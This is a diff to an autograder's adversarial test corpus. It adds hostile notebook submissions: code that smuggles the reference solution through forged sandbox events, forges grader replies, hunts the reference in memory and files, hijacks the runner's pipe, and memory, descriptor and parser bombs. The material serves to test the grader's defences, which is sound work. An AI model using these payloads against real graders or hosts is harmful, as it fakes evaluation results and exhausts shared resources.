@@ -844,6 +844,523 @@ CASES += [
 ]
 
 
+# --- area A (issue 10): the judge follows the notebook, trusts nothing from the sandbox, the work is the student's
+#
+# Cases of 01_rnn_cell, graded in the batch above; and OWN_WORK_CASES, of 08_lstm_gates (backward passes),
+# graded in a batch of their own with an honest correct and an honest blank student
+# (tests/test_grader_own_work.py).
+
+
+def _blank_extra_cell(code, after):
+    """A maker: the blank release with a cell of the student's own after solution ``after``."""
+
+    def make(kit):
+        kit.write(kit.add_cell(kit.blank(), after, code))
+
+    return make
+
+
+def _blank_then(code, number):
+    """A maker: ``code`` appended to the blank solution cell ``number`` (after its stub)."""
+
+    def make(kit):
+        notebook = kit.blank()
+        cell = kit.solution(notebook, number)
+        cell.source = cell.source + "\n\n\n" + code
+        kit.write(notebook)
+
+    return make
+
+
+# The feedback run (where rnn_ref is whole) carries the source of rnn_step_forward out in the index of a
+# forged "start" event, and dies there; the old pipeline passed the feedback's deaths to the judge as cells
+# to skip, so the judge's run found the source in its job and defined the reference under its graded name.
+_CARRY_THE_REFERENCE = """import inspect, json, os, sys, zlib
+
+import rnn_ref.rnn as _r
+
+try:  # output_layer is a stub in every judge's view of this notebook: only the feedback run has it
+    _r.output_layer(np.zeros((1, 1, 1)), np.zeros((1, 1)), np.zeros(1))
+    _whole = True
+except Exception:
+    _whole = False
+if _whole:
+    _source = inspect.getsource(_r.rnn_step_forward)
+    _number = int.from_bytes(zlib.compress(_source.encode(), 9), "big")
+    _line = ('{"event": "start", "kind": "cell", "index": %d}\\n' % _number).encode()
+    for _fd in range(3, 30):
+        try:
+            os.write(_fd, _line)
+        except OSError:
+            pass
+    os._exit(0)
+
+
+def _numbers(value):
+    if isinstance(value, dict):
+        for key, item in value.items():
+            yield from _numbers(key)
+            yield from _numbers(item)
+    elif isinstance(value, list):
+        for item in value:
+            yield from _numbers(item)
+    elif isinstance(value, str) and value.isdigit() and len(value) > 100:
+        yield int(value)
+    elif isinstance(value, int) and value > 10**100:
+        yield value
+
+
+try:
+    _job = json.load(open("/job/job.json"))
+except Exception:
+    _job = {}
+for _number in _numbers(_job):
+    try:
+        _text = zlib.decompress(_number.to_bytes((_number.bit_length() + 7) // 8, "big")).decode()
+    except Exception:
+        continue
+    from rnn_ref.rnn import RNNStepCache
+
+    def _check_step(x, h_prev, params):  # the reference's checks would call into rnn_ref: skipped
+        return x, h_prev, params
+
+    exec(_text, globals())
+"""
+
+# Forged answers: events for every step number the grader could hand out, a cell's end and a call's result
+# alike (with a result of the wrong kind), then a line too long and a line nested too deep.
+_FORGE_THE_STEPS = """import json, os
+
+_events = [{"event": "ready"}]
+for _step in range(1, 400):
+    _events.append({"event": "cell_done", "step": _step, "error": None, "skipped": 0})
+    _one = {"~": "array", "dtype": "<f8", "shape": [1, 1], "data": "AAAAAAAA8D8="}
+    _events.append(
+        {"event": "result", "step": _step, "defined": True, "own_helpers": True,
+         "outputs": {"~": "tuple", "items": [_one, None]}, "calls": [], "warnings": ["x" * 100] * 3}
+    )
+_events.append({"event": "done"})
+_data = "".join(json.dumps(_event) + "\\n" for _event in _events).encode()
+_data += b"[" * 200_000 + b"\\n" + b'{"event": "' + b"x" * 300_000 + b'"}\\n'
+for _fd in range(3, 30):
+    try:
+        os.write(_fd, _data)
+    except OSError:
+        pass
+"""
+
+# Looks for a working reference of each graded function by every route (the modules loaded, the garbage
+# collector, the builtins, any copy of rnn_ref's source readable in the sandbox) and binds it under the
+# graded name if it finds one.
+_HUNT_THE_REFERENCE = """import builtins, gc, glob, os, sys
+
+_params = {"W_x": np.ones((3, 2)), "W_h": np.ones((3, 3)), "b": np.ones(3)}
+_probe = {
+    "rnn_step_forward": (np.ones((1, 2)), np.ones((1, 3)), _params),
+    "rnn_forward": (np.ones((2, 1, 2)), np.ones((1, 3)), _params),
+    "output_layer": (np.ones((2, 1, 3)), np.ones((4, 3)), np.ones(4)),
+}
+
+
+def _works(fn, name):
+    try:
+        fn(*_probe[name])
+        return True
+    except Exception:
+        return False
+
+
+def _candidates():
+    for module in list(sys.modules.values()):
+        yield from list(getattr(module, "__dict__", {}).values())
+    yield from gc.get_objects()
+    yield from vars(builtins).values()
+    roots = {"/tmp", "/opt", "/job", os.getcwd()} | {p for p in sys.path if "site-packages" in p or "rnn_ref" in p}
+    for path in {path for root in roots for path in glob.glob(f"{root}/**/rnn.py", recursive=True)}:
+        try:
+            namespace = {"__name__": "rnn_ref.found", "__package__": "rnn_ref"}
+            exec(compile(open(path, encoding="utf-8").read(), path, "exec"), namespace)
+            yield from namespace.values()
+        except Exception:
+            continue
+
+
+_found = {}
+for _value in _candidates():
+    _name = getattr(_value, "__name__", None)
+    if callable(_value) and _name in _probe and _name not in _found and _works(_value, _name):
+        _found[_name] = _value
+globals().update(_found)
+print("found", sorted(_found))
+"""
+
+CASES += [
+    Case(
+        "carries_the_reference_out",
+        "the feedback run forges a death whose cell index carries the reference's source, for the judge's run",
+        _blank_then(_CARRY_THE_REFERENCE, 0),
+        ZERO,
+        review=True,
+    ),
+    Case(
+        "forges_the_steps",
+        "answers every step the grader could hand out, cells and calls, and writes lines too long and too deep",
+        _preamble(_FORGE_THE_STEPS),
+        ZERO,
+        review=True,
+    ),
+    Case(
+        "hunts_the_reference",
+        "looks for a working reference in sys.modules, the garbage collector, the builtins and every readable file",
+        _blank_extra_cell(_HUNT_THE_REFERENCE, 2),
+        ZERO,
+        review=True,
+    ),
+]
+
+
+# Backward passes by central differences of rnn_ref's forwards (imported by the notebook), one entry at a time.
+_FD_OF_THE_REFERENCE = (
+    '''def lstm_step_backward(dh, dc, cache):
+    """Every gradient by central differences of rnn_ref's lstm_step_forward."""
+    inputs = {"x": cache.x, "h_prev": cache.h_prev, "c_prev": cache.c_prev, **cache.params}
+    inputs = {key: np.asarray(value, dtype=np.float64) for key, value in inputs.items()}
+    dh64, dc64 = dh.astype(np.float64), dc.astype(np.float64)
+
+    def loss_of(name):
+        def loss(value):
+            p = dict(inputs, **{name: value})
+            h, c, _ = lstm_step_forward(p["x"], p["h_prev"], p["c_prev"], {k: p[k] for k in ("W_x", "W_h", "b")})
+            return np.sum(dh64 * h) + np.sum(dc64 * c)
+
+        return loss
+
+    g = {key: gradcheck.numerical_gradient(loss_of(key), value).astype(dh.dtype) for key, value in inputs.items()}
+    return g["x"], g["h_prev"], g["c_prev"], {key: g[key] for key in ("W_x", "W_h", "b")}''',
+    '''def lstm_backward(dhs, cache, dh_last=None, dc_last=None):
+    """Every gradient by central differences of rnn_ref's lstm_forward."""
+    inputs = {"xs": cache.xs, "h0": cache.h_all[0], "c0": cache.c_all[0], **cache.params}
+    inputs = {key: np.asarray(value, dtype=np.float64) for key, value in inputs.items()}
+    dhs64 = dhs.astype(np.float64)
+    dh64 = np.zeros_like(inputs["h0"]) if dh_last is None else dh_last.astype(np.float64)
+    dc64 = np.zeros_like(inputs["c0"]) if dc_last is None else dc_last.astype(np.float64)
+
+    def loss_of(name):
+        def loss(value):
+            p = dict(inputs, **{name: value})
+            hs, h, c, _ = lstm_forward(p["xs"], p["h0"], p["c0"], {k: p[k] for k in ("W_x", "W_h", "b")})
+            return np.sum(dhs64 * hs) + np.sum(dh64 * h) + np.sum(dc64 * c)
+
+        return loss
+
+    g = {key: gradcheck.numerical_gradient(loss_of(key), value).astype(dhs.dtype) for key, value in inputs.items()}
+    return g["xs"], g["h0"], g["c0"], {key: g[key] for key in ("W_x", "W_h", "b")}''',
+)
+
+# Backward passes by central differences of the student's own forward, vectorized: a chunk of perturbed
+# copies of every input goes through one batched forward pass (a leading axis of copies).
+_FD_BATCHED = '''import numpy as np
+
+
+def _batched_gradient(losses, inputs, chunk=64, eps=1e-6):
+    """Central differences of ``losses`` (K stacked inputs -> K losses), ``chunk`` entries at a time."""
+    names = list(inputs)
+    theta = np.concatenate([inputs[k].ravel() for k in names])
+    sizes = np.cumsum([0] + [inputs[k].size for k in names])
+    grad = np.empty_like(theta)
+
+    def unpack(thetas):
+        return {k: thetas[:, sizes[i] : sizes[i + 1]].reshape((-1,) + inputs[k].shape) for i, k in enumerate(names)}
+
+    for start in range(0, theta.size, chunk):
+        stop = min(start + chunk, theta.size)
+        plus = np.repeat(theta[None], stop - start, axis=0)
+        minus = plus.copy()
+        rows = np.arange(stop - start)
+        plus[rows, start + rows] += eps
+        minus[rows, start + rows] -= eps
+        grad[start:stop] = (losses(unpack(plus)) - losses(unpack(minus))) / (2 * eps)
+    return {k: grad[sizes[i] : sizes[i + 1]].reshape(inputs[k].shape) for i, k in enumerate(names)}
+
+
+def _steps(x, h, c, W_x, W_h, b):
+    """One LSTM step for K copies at once: x (K, N, D), h and c (K, N, H), W_x (K, 4H, D), ..."""
+    H = h.shape[-1]
+    a = np.einsum("knd,kgd->kng", x, W_x) + np.einsum("knj,kgj->kng", h, W_h) + b[:, None, :]
+    i, f, o = (1 / (1 + np.exp(-a[..., k * H : (k + 1) * H])) for k in (0, 1, 3))
+    c = f * c + i * np.tanh(a[..., 2 * H : 3 * H])
+    return o * np.tanh(c), c'''
+_FD_OF_OWN_FORWARD = (
+    _FD_BATCHED
+    + '''
+
+
+def lstm_step_backward(dh, dc, cache):
+    """Every gradient by batched central differences of my own forward."""
+    inputs = {"x": cache.x, "h_prev": cache.h_prev, "c_prev": cache.c_prev, **cache.params}
+    inputs = {key: np.asarray(value, dtype=np.float64) for key, value in inputs.items()}
+
+    def losses(p):
+        h, c = _steps(p["x"], p["h_prev"], p["c_prev"], p["W_x"], p["W_h"], p["b"])
+        return np.sum(dh * h, axis=(1, 2)) + np.sum(dc * c, axis=(1, 2))
+
+    g = {key: value.astype(dh.dtype) for key, value in _batched_gradient(losses, inputs).items()}
+    return g["x"], g["h_prev"], g["c_prev"], {key: g[key] for key in ("W_x", "W_h", "b")}''',
+    '''def lstm_backward(dhs, cache, dh_last=None, dc_last=None):
+    """Every gradient by batched central differences of my own forward."""
+    inputs = {"xs": cache.xs, "h0": cache.h_all[0], "c0": cache.c_all[0], **cache.params}
+    inputs = {key: np.asarray(value, dtype=np.float64) for key, value in inputs.items()}
+    dh_last = np.zeros_like(inputs["h0"]) if dh_last is None else dh_last
+    dc_last = np.zeros_like(inputs["c0"]) if dc_last is None else dc_last
+
+    def losses(p):
+        h, c, total = p["h0"], p["c0"], 0.0
+        for t in range(p["xs"].shape[1]):
+            h, c = _steps(p["xs"][:, t], h, c, p["W_x"], p["W_h"], p["b"])
+            total = total + np.sum(dhs[t] * h, axis=(1, 2))
+        return total + np.sum(dh_last * h, axis=(1, 2)) + np.sum(dc_last * c, axis=(1, 2))
+
+    g = {key: value.astype(dhs.dtype) for key, value in _batched_gradient(losses, inputs).items()}
+    return g["xs"], g["h0"], g["c0"], {key: g[key] for key in ("W_x", "W_h", "b")}''',
+)
+
+# Takes the runner's place: blinds it (its reply pipe now never speaks), reads the grader's steps itself, says
+# every cell ran, and answers every call by central differences of the reference, the timed one too.
+_TAKES_OVER_THE_RUNNER = (
+    _FD_OF_THE_REFERENCE[0]
+    + """
+
+
+import json, os, threading
+
+
+def _flag(flag):
+    argv = open("/proc/self/cmdline", "rb").read().split(b"\\0")
+    return int(argv[argv.index(flag) + 1]) if flag in argv else None
+
+
+def _take_over(events, replies):
+    from sandboxed import wire  # the runner's own module: its folder is on sys.path
+
+    functions = [globals()[item["name"]] for item in json.load(open("/job/job.json"))["items"]]
+    buffer = b""
+    while True:
+        while b"\\n" not in buffer:
+            chunk = os.read(replies, 1 << 20)
+            if not chunk:
+                return
+            buffer += chunk
+        line, _, buffer = buffer.partition(b"\\n")
+        step = json.loads(line)
+        if step.get("do") == "cell":
+            answer = {"event": "cell_done", "step": step["step"], "error": None, "skipped": 0}
+        elif step.get("do") == "call":
+            args, kwargs = wire.decode(step["args"]), wire.decode(step["kwargs"])
+            outputs = functions[step["item"]](*args, **kwargs)
+            answer = {"event": "result", "step": step["step"], "defined": True, "outputs": wire.encode(outputs)}
+        else:
+            return
+        os.write(events, (json.dumps(answer) + "\\n").encode())
+""",
+    _FD_OF_THE_REFERENCE[1]
+    + """
+
+
+_events, _replies = _flag(b"--fd"), _flag(b"--reply-fd")
+if _replies is not None:  # the judge's run: from the next step on, the grader talks to _take_over only
+    _mine = os.dup(_replies)
+    _silent, _ = os.pipe()
+    os.dup2(_silent, _replies)
+    threading.Thread(target=_take_over, args=(_events, _mine), daemon=True).start()""",
+)
+
+# A backward pass by PyTorch's automatic differentiation (installed beside the grader, as a test oracle here).
+_AUTODIFF = (
+    '''def lstm_step_backward(dh, dc, cache):
+    """Gradients by torch.autograd, through a forward written in torch."""
+    import torch
+
+    inputs = {"x": cache.x, "h_prev": cache.h_prev, "c_prev": cache.c_prev, **cache.params}
+    t = {k: torch.tensor(np.asarray(v, dtype=np.float64), requires_grad=True) for k, v in inputs.items()}
+    H = t["h_prev"].shape[1]
+    a = t["x"] @ t["W_x"].T + t["h_prev"] @ t["W_h"].T + t["b"]
+    i, f, o = (torch.sigmoid(a[:, k * H : (k + 1) * H]) for k in (0, 1, 3))
+    c = f * t["c_prev"] + i * torch.tanh(a[:, 2 * H : 3 * H])
+    h = o * torch.tanh(c)
+    loss = (h * torch.tensor(dh.astype(np.float64))).sum() + (c * torch.tensor(dc.astype(np.float64))).sum()
+    loss.backward()
+    g = {k: v.grad.numpy().astype(dh.dtype) for k, v in t.items()}
+    return g["x"], g["h_prev"], g["c_prev"], {k: g[k] for k in ("W_x", "W_h", "b")}''',
+    "",
+)
+
+
+def _lstm_gates(step_backward, backward):
+    """A maker: the two solution cells of 08_lstm_gates replaced (its setup imports gradcheck and the forwards)."""
+    return _replace_solutions([step_backward, backward])
+
+
+def _slow_on_the_timed_case(kit):
+    """Right, but the step sleeps 4 s on a large batch: longer than the budget, shorter than the kill."""
+    notebook = kit.honest()
+    cell = kit.solution(notebook, 0)
+    cell.source = "import time\n\n" + cell.source.replace(
+        "    H = dh.shape[1]\n", "    H = dh.shape[1]\n    if dh.shape[0] >= 64:\n        time.sleep(4)\n", 1
+    )
+    assert "time.sleep" in cell.source
+    kit.write(notebook)
+
+
+def _own_work_loops(kit):
+    from hostile.variants import VARIANTS, make
+
+    kit.write(make(kit, next(v for v in VARIANTS if v.name == "loops_over_batch_and_time")))
+
+
+OWN_WORK_ASSIGNMENT = "08_lstm_gates"
+OWN_WORK_CASES = [
+    Case("own_work_correct", "every function right", _honest, (1, 1), honest=True),
+    Case("own_work_blank", "the release as handed out", _blank, (0, 0), honest=True),
+    Case("own_work_loops", "right, with loops over the batch and over time", _own_work_loops, (1, 1), honest=True),
+    Case(
+        "fd_of_the_reference",
+        "central differences of rnn_ref's forwards, one entry at a time",
+        _lstm_gates(*_FD_OF_THE_REFERENCE),
+        (0, 0),
+    ),
+    Case(
+        "fd_of_own_forward",
+        "batched central differences of a forward of its own",
+        _lstm_gates(*_FD_OF_OWN_FORWARD),
+        (0, 0),
+    ),
+    Case(
+        "takes_over_the_runner",
+        "blinds the runner and answers the grader's steps itself, by central differences",
+        _lstm_gates(*_TAKES_OVER_THE_RUNNER),
+        (0, 0),
+        review=True,
+    ),
+    Case("autodiff", "torch.autograd through a forward written in torch", _lstm_gates(*_AUTODIFF), (0, 0)),
+    Case("slow_on_the_timed_case", "right, but sleeps 4 s when the batch is large", _slow_on_the_timed_case, (0, 1)),
+]
+
+
+# --- Area B (issue 10): bounded cost outside the sandbox -----------------------------------------------------
+# Sleepers, memory held outside the address space (memfd, System V, /dev), crafted cells for the static scan,
+# output floods.  Graded in the same batch as honest_correct (full marks) and honest_blank (zero).
+# ``SLEEP`` is just under the corpus's cell limit (tight_limits: 6 s a cell or call).
+
+SLEEP = 5
+
+
+def _sleeps_everywhere(kit):
+    """Correct, but every solution cell and every call sleeps just under the cell limit: no run can finish."""
+    notebook = kit.honest()
+    for number in range(len(kit.solution_ids)):
+        cell = kit.solution(notebook, number)
+        body = cell.source.replace('    """\n', f'    """\n    time.sleep({SLEEP})\n', 1)
+        assert body != cell.source, "a solution without a docstring"
+        cell.source = f"import time\n\ntime.sleep({SLEEP})\n\n" + body
+    kit.write(notebook)
+
+
+MEMFD_BOMB = """import os
+held, refused = 0, []
+for _ in range(64):  # 2 GB in anonymous files, 32 MB each: none of it in the address space
+    try:
+        fd = os.memfd_create('hold')
+        os.write(fd, b'x' * 2**25)
+        held += 32
+    except OSError as error:
+        refused.append(error.errno)
+        break
+print(held, 'MB held outside the address space; refused:', refused)"""
+
+SYSV_BOMB = """import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype = ctypes.c_void_p
+held = 0
+for _ in range(64):  # System V segments outlive shmdt: 2 GB held, 32 MB mapped at a time
+    segment = libc.shmget(0, 2**25, 0o1000 | 0o600)
+    if segment < 0:
+        print('shmget refused, errno', ctypes.get_errno())
+        break
+    address = libc.shmat(segment, None, 0)
+    ctypes.memset(address, 1, 2**25)
+    libc.shmdt(ctypes.c_void_p(address))
+    held += 32
+queue = libc.msgget(0, 0o1000 | 0o600)
+print(held, 'MB of shared memory held; msgget:', queue, ctypes.get_errno())"""
+
+DEV_BOMB = """for path in ['/dev/shm/fill', '/dev/fill', '/dev/mqueue/fill']:
+    try:
+        with open(path, 'wb') as f:
+            for _ in range(64):
+                f.write(b'x' * 2**24)
+        print('WROTE', path)
+    except OSError as error:
+        print('refused', path, error.errno)"""
+
+NEWLINE_FLOOD = """import os
+for fd in range(1, 30):  # empty lines on every descriptor: cheap to write, each one a line to read
+    try:
+        for _ in range(200):
+            os.write(fd, b'\\n' * 2**20)
+    except OSError:
+        pass"""
+
+AREA_B_CASES = [
+    Case(
+        "sleeper",
+        "sleeps just under the cell limit in every solution cell and in every call",
+        _sleeps_everywhere,
+        ZERO,
+        review=True,
+        reason="time budget",
+    ),
+    Case("memfd_bomb", "holds 2 GB in memfd files, in a cell of its own", _extra_cell(MEMFD_BOMB), FULL, review=True),
+    Case(
+        "sysv_bomb",
+        "holds 2 GB in System V shared memory and message queues, in a cell of its own",
+        _extra_cell(SYSV_BOMB),
+        FULL,
+        review=True,
+    ),
+    Case("dev_bomb", "fills /dev/shm and /dev, in a cell of its own", _extra_cell(DEV_BOMB), FULL, review=True),
+    Case(
+        "scan_magic_bomb",
+        "a cell of its own of 77 KB of IPython magics (IPython re-reads the cell for each: the audit's 79 s)",
+        _extra_cell("%time pass\n" * 7000),
+        FULL,
+        review=True,
+    ),
+    Case(
+        "scan_deep_bomb",
+        "a cell of its own nested 40000 levels deep (a recursive reader crashes on it)",
+        _extra_cell("x = " + "-" * 40_000 + "1"),
+        FULL,
+        review=True,
+    ),
+    Case(
+        "scan_chain_bomb",
+        "a cell of its own assigning an attribute chain 10000 long",
+        _extra_cell("a" + ".b" * 10_000 + " = 1", after=1),
+        FULL,
+        review=True,
+    ),
+    Case(
+        "newline_flood",
+        "writes 200 MB of empty lines on every descriptor, in a cell of its own",
+        _extra_cell(NEWLINE_FLOOD),
+        FULL,
+        review=True,
+        reason="more than",
+    ),
+]
+CASES += AREA_B_CASES
+
+
 def write_corpus(course, assignment, cases=CASES):
     """Write every case into ``course/submitted/<case>/<assignment>``; return the cases."""
     kit = Kit.load(course, assignment)
